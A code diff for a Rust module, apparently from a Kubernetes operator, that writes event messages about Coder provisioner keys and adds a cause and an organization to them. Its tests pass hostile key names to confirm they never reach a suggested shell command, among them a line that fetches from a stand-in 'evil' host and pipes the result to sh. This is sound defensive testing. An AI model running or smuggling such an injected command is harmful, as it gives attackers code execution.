@@ -1,5 +1,7 @@
 //! Decides what is told of a key that came, went or was left alone, which no condition shows. Of plaintexts it knows nothing.
 
+use super::key::cause::Cause;
+use super::key::record::Home;
 use super::key::steps::Left;
 use super::reasons::Reason;
 use crate::kubernetes::events::{EventDraft, Severity};
@@ -10,8 +12,8 @@ const LONGEST_NAME: usize = 64;
 /// Something that was done about a key.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub(super) enum KeyEvent<'a> {
-    /// It was made.
-    Created(&'a str),
+    /// It was made, and why.
+    Created(&'a str, &'a Cause),
     /// It was deleted.
     Deleted(&'a str),
     /// It was left alone.
@@ -22,10 +24,10 @@ impl KeyEvent<'_> {
     /// What there is to tell.
     pub(super) fn draft(&self) -> EventDraft {
         let (severity, reason, note) = match self {
-            Self::Created(name) => (
-                Severity::Normal,
+            Self::Created(name, cause) => (
+                if cause.is_interference() { Severity::Warning } else { Severity::Normal },
                 Reason::KeyCreated,
-                format!("provisioner key {name} was created in coderd"),
+                format!("provisioner key {name} was created in coderd{}", because(cause)),
             ),
             Self::Deleted(name) => (
                 Severity::Normal,
@@ -47,7 +49,9 @@ impl KeyEvent<'_> {
                     "coderd has {number} more provisioner keys of the names that would be next; they are left alone"
                 ),
             ),
-            Self::Left(Left::Behind(name)) => (Severity::Warning, Reason::KeyLeftBehind, behind(name)),
+            Self::Left(Left::Behind(name, home)) => {
+                (Severity::Warning, Reason::KeyLeftBehind, behind(name, home))
+            }
             Self::Left(Left::Unproven(name)) => (
                 Severity::Warning,
                 Reason::KeyLeftBehind,
@@ -67,17 +71,41 @@ impl KeyEvent<'_> {
     }
 }
 
-/// What is said of a key of ours that stays. The command is for a name that a shell takes as it stands.
-fn behind(name: &str) -> String {
+/// Why a key was made, as the end of a sentence.
+fn because(cause: &Cause) -> String {
+    match cause {
+        Cause::First => String::new(),
+        Cause::Moved => ": the spec names another control plane or organization".to_owned(),
+        Cause::Renamed => ": the spec gives another key name".to_owned(),
+        Cause::Tags => ": spec.tags changed".to_owned(),
+        Cause::SecretEmptied(secret) => format!(": Secret {secret} was deleted, or emptied"),
+        Cause::SecretChanged(secret) => {
+            format!(": Secret {secret} was changed and no longer holds the key before it")
+        }
+        Cause::DeletedInCoderd(name) => format!(": provisioner key {name} was deleted in coderd"),
+        Cause::GivenUp => ": the one before it could not be kept".to_owned(),
+    }
+}
+
+/// What is said of a key of ours that stays, and where: the object that could tell is often gone. The command is for a name that
+/// a shell takes as it stands; an organization may be given by its id.
+fn behind(name: &str, home: &Home) -> String {
+    let Home { deployment, organization, .. } = home;
+    let place = if deployment.is_empty() {
+        "coderd".to_owned()
+    } else {
+        format!("organization {organization} of the coderd with deployment id {}", beginning(deployment))
+    };
     let mut letters = name.bytes();
     let is_plain = letters.next().is_some_and(|first| first.is_ascii_alphanumeric())
         && letters.all(|one| one.is_ascii_alphanumeric() || b"._-".contains(&one));
     if is_plain {
         format!(
-            "provisioner key {name} was left in coderd; if nobody uses it, run coder provisioner keys delete {name}"
+            "provisioner key {name} was left in {place}; if nobody uses it, run coder provisioner keys delete {name} --org \
+             {organization}"
         )
     } else {
-        format!("provisioner key {} was left in coderd; if nobody uses it, delete it there", beginning(name))
+        format!("provisioner key {} was left in {place}; if nobody uses it, delete it there", beginning(name))
     }
 }
 
@@ -89,12 +117,36 @@ fn beginning(name: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::coderd::Uuid;
+
+    fn home() -> Home {
+        let organization = "6d5b3bd6-9ba4-4a45-9d3c-8a3a4f5f2c11".parse::<Uuid>().unwrap();
+        Home { control_plane: "uid".to_owned(), deployment: "deployment-1".to_owned(), organization }
+    }
+
+    fn left_behind(name: &str) -> Left {
+        Left::Behind(name.to_owned(), Box::new(home()))
+    }
+
+    #[test]
+    fn a_key_that_replaces_another_says_why_and_interference_is_a_warning() {
+        let told = |cause: &Cause| KeyEvent::Created("builders-2", cause).draft();
+        assert_eq!(told(&Cause::First).note, "provisioner key builders-2 was created in coderd");
+        assert!(told(&Cause::Tags).note.ends_with(": spec.tags changed"));
+        assert!(told(&Cause::SecretEmptied("s".to_owned())).note.contains("Secret s was deleted"));
+        for asked_for in [Cause::First, Cause::Moved, Cause::Renamed, Cause::SecretEmptied(String::new())] {
+            assert_eq!(told(&asked_for).severity, Severity::Normal, "{asked_for:?}");
+        }
+        for interference in [Cause::SecretChanged(String::new()), Cause::DeletedInCoderd(String::new())] {
+            assert_eq!(told(&interference).severity, Severity::Warning, "{interference:?}");
+        }
+    }
 
     #[test]
     fn a_key_that_was_left_is_a_warning_that_names_it_and_what_to_do() {
-        assert_eq!(KeyEvent::Created("a").draft().severity, Severity::Normal);
+        assert_eq!(KeyEvent::Created("a", &Cause::First).draft().severity, Severity::Normal);
         let name = || "builders".to_owned();
-        for left in [Left::Taken(name()), Left::Behind(name()), Left::Unproven(name())] {
+        for left in [Left::Taken(name()), left_behind("builders"), Left::Unproven(name())] {
             let draft = KeyEvent::Left(&left).draft();
             assert_eq!(draft.severity, Severity::Warning);
             assert!(draft.note.contains("builders"), "{}", draft.note);
@@ -104,9 +156,11 @@ mod tests {
     #[test]
     fn nobody_is_told_to_run_a_name_that_somebody_chose() {
         let told = |left: Left| KeyEvent::Left(&left).draft().note;
-        assert!(told(Left::Behind("builders-2".to_owned())).ends_with("keys delete builders-2"));
+        let plain = told(left_behind("builders-2"));
+        assert!(plain.ends_with(&format!("keys delete builders-2 --org {}", home().organization)), "{plain}");
+        assert!(plain.contains("deployment-1"), "{plain}");
         for name in ["x; curl https://evil/|sh", "$(id)", "a b", "-rf", "", "a'b"] {
-            let note = told(Left::Behind(name.to_owned()));
+            let note = told(left_behind(name));
             assert!(note.ends_with("delete it there"), "{note}");
         }
         let unproven = told(Left::Unproven("victim".to_owned()));
